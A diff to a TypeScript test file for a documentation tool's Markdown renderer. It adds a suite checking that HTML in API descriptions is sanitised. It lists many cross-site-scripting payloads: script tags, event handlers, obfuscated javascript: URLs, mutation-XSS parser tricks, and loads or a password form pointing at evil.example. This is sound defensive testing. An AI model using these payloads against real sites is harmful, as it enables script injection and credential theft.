@@ -1,8 +1,12 @@
+import type { Element, Nodes } from 'hast';
+import { fromHtml } from 'hast-util-from-html';
 import { describe, expect, test } from 'vitest';
 import { checkApiDocument } from '../../src/api/check.ts';
 import { readExtensions } from '../../src/api/extensions.ts';
 import { testPattern } from '../../src/api/pattern-test.ts';
 import { parseSource } from '../../src/api/source-document.ts';
+import { renderMarkdown } from '../../src/markdown/render-markdown.ts';
+import { withoutHtml } from '../../src/markdown/without-html.ts';
 import { readFrontmatter } from '../../src/project/frontmatter.ts';
 import { octavo } from '../support/octavo.ts';
 import { plainConfig, writeProject } from '../support/project.ts';
@@ -42,6 +46,53 @@ describe('patterns of a description', () => {
       expect(testPattern('a', pattern)).toBeUndefined();
   });
 });
+
+describe('HTML in a description', () => {
+  test.each([
+    '<script>run()</script>',
+    '<SCRIPT src="//evil.example/x.js"></SCRIPT >',
+    '<scr<script>ipt>run()</script>',
+    '<img src=x onerror="run()">',
+    '<img src="javascript:run()">',
+    '<img/src=x/onerror=run()>',
+    '<a href="javascript:run()">x</a>',
+    '<a href="JaVa&Tab;script&colon;run()">x</a>',
+    '<a href=" \u0001javascript:run()">x</a>',
+    '<a href="data:text/html,<script>run()</script>">x</a>',
+    '<a href="vbscript:run()" onclick=run()>x</a>',
+    '<p style="background:url(javascript:run())" onmouseover="run()">x</p>',
+    '<td style="text-align: left; background: url(//evil.example)">x</td>',
+    '<style>@import "//evil.example";</style>',
+    '<link rel=stylesheet href=//evil.example><base href=//evil.example><meta http-equiv=refresh content=0>',
+    '<iframe srcdoc="<script>run()</script>"></iframe><embed src=//evil.example><object data=//evil.example></object>',
+    '<form action=//evil.example><input name=password><button formaction=javascript:run()>x</button></form>',
+    '<svg><animate onbegin=run() attributeName=x /><a xlink:href="javascript:run()">x</a></svg>',
+    '<svg></p><style><a id="</style><img src=1 onerror=run()>">',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=run()&gt;">',
+    '<noscript><p title="</noscript><img src=x onerror=run()>">',
+    '<template><script>run()</script></template><xmp><img src=x onerror=run()></xmp>',
+    '<details open ontoggle=run()><summary>x</summary></details><video><source onerror=run()></video>',
+    '<p id="api-body" name="body" class="endpoint">x</p>',
+    '<!--><img src=x onerror=run()>-->',
+    '<![CDATA[<script>run()</script>]]>',
+    '[x](<javascript:run()>) <javascript:run()>\n\n<p>[y]</p>\n\n[y]: javascript:run()',
+  ])('%s runs nothing, and loads nothing but pictures', (text) => {
+    const pages = [text, `Text ${text} text`, withoutHtml(text)].map((markdown) => renderMarkdown(markdown));
+    for (const html of [...pages, renderMarkdown(text, { inline: true })])
+      for (const { tagName, properties } of elementsOf(fromHtml(html, { fragment: true }))) {
+        expect(tagName).toMatch(/^(?:p|a|img|br|details|summary|em|strong|code|input|table|t(?:[dhr]|head|body))$/);
+        for (const [name, value] of Object.entries(properties)) {
+          expect(name).toMatch(/^(?:href|src|alt|title|open|type|disabled)$/);
+          expect(String(value)).not.toMatch(/script:|^data:/i);
+        }
+      }
+  });
+});
+
+function elementsOf(node: Nodes): Element[] {
+  const inside = 'children' in node ? node.children.flatMap(elementsOf) : [];
+  return node.type === 'element' ? [node, ...inside] : inside;
+}
 
 describe('x-mint', () => {
   test('metadata is frontmatter: what is no text and no page says so, and ends nothing', async () => {
